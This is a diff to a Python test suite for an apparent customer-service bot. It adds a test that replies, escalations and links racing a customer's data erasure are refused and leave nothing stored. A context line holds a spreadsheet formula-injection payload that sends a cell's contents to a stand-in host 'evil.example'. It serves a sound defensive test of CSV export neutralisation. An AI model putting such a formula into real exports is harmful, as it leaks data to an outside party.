@@ -6,6 +6,7 @@ from __future__ import annotations
 import asyncio
 import csv
 import io
+import threading
 from collections.abc import AsyncIterator
 from datetime import timedelta
 from pathlib import Path
@@ -15,12 +16,15 @@ import httpx
 import pytest
 import yaml
 from sqlalchemy import inspect, text
+from sqlmodel import Session
 from typer.testing import CliRunner
 
+from bot import privacy
 from bot.config import parse_config
 from bot.settings import Settings
 from csatbot.cli import app as cli
 from csatbot.runtime import Runtime
+from storage.repository import SqlRepository
 from storage.survey_rows import FORMULA_STARTS, csv_text
 
 from ..conftest import (
@@ -335,3 +339,43 @@ async def test_the_api_export_neutralises_a_formula_in_a_comment(
     await unhappy_customer(http, "eve", "Eve", '=HYPERLINK("http://evil.example/?"&A1,"click")')
     export = (await http.get("/api/reports/export.csv")).content.decode("utf-8-sig")
     assert "'=HYPERLINK(" in export and ',"=HYPERLINK' not in export
+
+
+async def test_what_races_an_erasure_waits_for_it_and_is_refused(
+    app: tuple[httpx.AsyncClient, Runtime],
+) -> None:
+    """An erasure in progress (its transaction open) and, meanwhile, an agent's reply, an escalation
+    and a deep link for the same customer. On PostgreSQL each checked the customer against what was
+    committed before the erasure and went on: the reply's words were kept and queued to the
+    customer's real id, a ticket was opened about them, a link attached a chat to them again. Now each
+    waits for the erasure and is refused (409), and nothing of them is stored."""
+    http, runtime = app
+    await customer_says(http, "ann", text="my parcel never came to 5 Main Street", id="c-1")
+    conversation = await conversation_of(http, "ann")
+    customer = (await http.get(f"/api/conversations/{conversation}")).json()["customer"]["id"]
+    erasing, release = threading.Event(), threading.Event()
+
+    def erase_and_hold() -> None:
+        with Session(runtime.database.writer) as session, session.begin():
+            privacy.erase(SqlRepository(session), customer, "test", runtime.clock.now())
+            erasing.set()
+            release.wait(10)
+
+    eraser = asyncio.create_task(asyncio.to_thread(erase_and_hold))
+    assert await asyncio.to_thread(erasing.wait, 10)
+    racing = asyncio.gather(
+        http.post(f"/api/conversations/{conversation}/reply", json={"text": "Hi Ann, sorry!"}),
+        http.post(f"/api/conversations/{conversation}/escalate", json={"reason": "call Ann back"}),
+        http.post(f"/api/customers/{customer}/link"),
+    )
+    await asyncio.sleep(0.3)  # long enough for each to reach the database
+    release.set()
+    answers = await racing
+    await eraser
+    assert [a.status_code for a in answers] == [409, 409, 409], [a.text for a in answers]
+    assert all("erased" in a.json()["detail"] for a in answers)
+    dump = everything(runtime)
+    assert "Hi Ann" not in dump and "call Ann back" not in dump and '"ann"' not in dump
+    with runtime.database.reader.connect() as conn:
+        assert conn.execute(text("select count(*) from link_token")).scalar_one() == 0
+        assert conn.execute(text("select count(*) from ticket")).scalar_one() == 0
